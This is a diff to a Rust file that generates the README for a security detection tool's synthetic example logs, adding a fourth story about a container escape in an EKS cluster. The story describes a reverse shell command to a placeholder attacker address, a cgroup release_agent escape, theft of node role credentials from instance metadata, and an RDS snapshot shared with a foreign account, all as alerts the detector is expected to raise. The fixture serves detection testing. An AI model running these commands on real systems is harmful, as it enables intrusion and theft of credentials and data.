@@ -1,8 +1,9 @@
 //! `examples/data/README.md`: what the example day holds, where each log is, the accounts and
-//! estates it spans, and the three stories it tells.
+//! estates it spans, and the four stories it tells.
 
 use super::azure::{GUEST, OWNER_ROLE, SUBSCRIPTION, TENANT};
-use super::falco::SHELL_RULE;
+use super::escape::SWEPT_REGIONS;
+use super::falco::{METADATA_RULE, MOUNT_RULE, REDIRECT_RULE, RELEASE_AGENT_RULE, SHELL_RULE};
 use super::gcp::{EXPORTER, PROJECT, PUBLIC_BUCKET, PUBLIC_ROLE};
 use super::kubernetes::{CONTRACTOR_ROLE, CONTRACTOR_SESSION, ROGUE_CONTAINER, ROGUE_IMAGE};
 use super::layout::{ExampleSummary, Planes};
@@ -58,7 +59,7 @@ Each record has the shape its provider documents.
 | `{dev}` | Acme dev / shared tools (workstations, bastion, CI) |
 | `{prod}` | Acme production |
 | `{marketing}` | Acme marketing (website assets) |
-| `{foreign}` | not Acme: receives the shared snapshot |
+| `{foreign}` | not Acme: receives the shared snapshots |
 | `{ext}` | other corporate accounts, not Acme's: the failed assumes |
 | `{datadog}` | monitoring vendor, trusted with an external id |
 
@@ -68,7 +69,7 @@ Beyond AWS:
 |--------|------------|
 | GCP project `{project}` | Acme analytics (ETL workers, curated data, exports) |
 | Azure subscription `{subscription}` | Acme production on Azure (the customer portal, ops automation), tenant `{tenant}` |
-| EKS cluster `{cluster}` | Acme production's cluster, in account `{prod}`: nodes `{node}` (`{node_ip}`, `{node_eni}`) and `{orders_node}` (`{orders_ip}`, `{orders_eni}`, the orders service) |
+| EKS cluster `{cluster}` | Acme production's cluster, in account `{prod}`: nodes `{node}` (instance `{node_instance}`, `{node_ip}`, `{node_eni}`) and `{orders_node}` (instance `{orders_instance}`, `{orders_ip}`, `{orders_eni}`, the orders service), both with the instance role `{node_role}` |
 
 ## Story 1: the insider (dev → prod, 09:12–10:25)
 
@@ -136,6 +137,53 @@ Expected: `iam-risk` reports steps 1 and 2 on their own: `allUsers` granted on `
 CloudTrail only; the story's events show in the summary's `events by provider` and
 `events by source`, for detectors of those planes.
 
+## Story 4: a vulnerable container escapes to its node (production, 20:05–20:40)
+
+The orders API's container on `{orders_node}` (pod `{orders_pod}`, namespace `orders`) runs
+privileged and its web app has a command injection. The attacker's machine is **`{attacker}`**.
+Acme's Falco loads the incubating rules besides the stable ones.
+
+1. Falco on `{orders_node}`, in container `orders-api` of pod `{orders_pod}`:
+   - 20:05 **`{redirect_rule}`** (Notice, `T1059`): `bash -c bash -i >& /dev/tcp/{attacker}/{port} 0>&1`
+     (parent `sh`, grandparent `node`) puts its standard streams on a connection to
+     `{attacker}:{port}`;
+   - 20:09 **`{mount_rule}`** (Warning, `T1611`): `mount -t cgroup -o rdma cgroup /tmp/cgrp`;
+   - 20:09 **`{release_agent_rule}`** (Critical, `T1611`): the shell writes
+     `/tmp/cgrp/release_agent`, with every capability: a command on the node itself;
+   - 20:11 **`{metadata_rule}`** (Notice, `T1552.005`), twice: an IMDSv2 token, then
+     `latest/meta-data/iam/security-credentials/{node_role}`, the node role's credentials.
+
+   VPC flow logs: the node's interface `{orders_eni}` (`{orders_ip}`) connects to
+   **`{attacker}:{port}`**, accepted, in seven one-minute windows from 20:05, with the replies.
+2. 20:14–20:20 the node role's session **`arn:aws:sts::{prod}:assumed-role/{node_role}/{orders_instance}`**, signed with its current `ASIA…` key
+   (the one the node's own calls use from 15:14 to 21:14), from `{attacker}` with another AWS
+   CLI (`md/distrib#debian.12`) than the node's agents: `GetCallerIdentity`, a denied
+   `ListBuckets`, then `DescribeInstances` and denied `DescribeDBInstances` and
+   `DescribeDBSnapshots` in {regions} regions ({region_list}) within six minutes.
+3. 20:22 `sts:AssumeRole` of **`{dba_role}`** (`arn:aws:iam::{prod}:role/{dba_role}`) — no
+   `serialNumber` (MFA), no `externalId` — with the node role's key, session `{dba_session}`
+   (the name the orders service's schema migrations used when they ran from the nodes, before
+   IRSA; the role still trusts the node role). Every later call is signed with the `ASIA…` key
+   this call returned.
+4. 20:23–20:39 with it, from `{attacker}`: `GetCallerIdentity`, `DescribeDBInstances`,
+   `DescribeDBSnapshots`, then `rds:CreateDBSnapshot` **`{exported}`** of `{orders_db}`,
+   polled twice, and at 20:38 `rds:ModifyDBSnapshotAttribute` (`attributeName` `restore`,
+   `valuesToAdd` **`{foreign}`**), read back with `DescribeDBSnapshotAttributes`.
+
+Before it, all day: the node role's own calls (session `{orders_instance}`, keys EC2 renews
+every six hours) come from the node's private address `{orders_ip}` through the VPC's interface
+endpoints (`vpcEndpointId`): the VPC CNI agent's hourly `ec2:DescribeNetworkInterfaces`
+(`amazon-vpc-cni-k8s`) and the kubelet's image credential provider's `ecr:GetAuthorizationToken`
+every six hours (`aws-sdk-go`). They tie the node's host name to its instance.
+
+Expected: a storyline from the node's instance (`instance:{orders_instance}`), with hops from
+the host and container (the Falco alerts) to the instance role session and then to the
+`{dba_role}` session, and one composite alert tying the Falco alerts, the multi-region
+discovery, the privileged assume and the snapshot share together. On their own, `iam-risk`
+reports steps 3 (privileged role assumed without MFA) and 4 (snapshot shared with a foreign
+account); the rules report the instance credentials used from outside (each call of step 2 and
+the assume), the denied calls, and the RDS snapshot shared.
+
 ## Background (benign)
 
 ### CloudTrail
@@ -152,7 +200,8 @@ task roles assumed by their services; AWS Backup and RDS snapshots; AWS Config d
 every few hours in three regions; a monitoring vendor assuming its role with an external id
 and polling three regions; a Prowler audit assuming `OrganizationAuditRole` in production
 with an external id; CodePipeline deploying to production; a marketing logs bucket created
-private, encrypted, with a LogDelivery grant; CloudFront invalidations.
+private, encrypted, with a LogDelivery grant; CloudFront invalidations; the orders node's
+instance role through the VPC endpoints (story 4).
 
 ### GCP
 
@@ -201,11 +250,26 @@ probing SSH, Telnet and RDP, rejected.
         orders_node = ORDERS_NODE.name,
         orders_ip = ORDERS_NODE.ip,
         orders_eni = ORDERS_NODE.eni,
+        node_instance = NODE.instance,
+        orders_instance = ORDERS_NODE.instance,
+        node_role = NODE_ROLE,
+        orders_pod = ORDERS_POD,
+        attacker = ATTACKER_IP,
+        redirect_rule = REDIRECT_RULE,
+        mount_rule = MOUNT_RULE,
+        release_agent_rule = RELEASE_AGENT_RULE,
+        metadata_rule = METADATA_RULE,
+        regions = SWEPT_REGIONS.len(),
+        region_list = SWEPT_REGIONS.join(", "),
+        dba_role = DBA_ROLE,
+        dba_session = DBA_SESSION,
+        exported = EXPORTED_SNAPSHOT,
+        orders_db = ORDERS_DB,
         contractor = CONTRACTOR,
         contractor_session = CONTRACTOR_SESSION,
         contractor_role = CONTRACTOR_ROLE,
         intruder = INTRUDER_IP,
-        port = INTRUDER_PORT,
+        port = LISTENER_PORT,
         exporter = EXPORTER,
         gcp_bucket = PUBLIC_BUCKET,
         public_role = PUBLIC_ROLE,
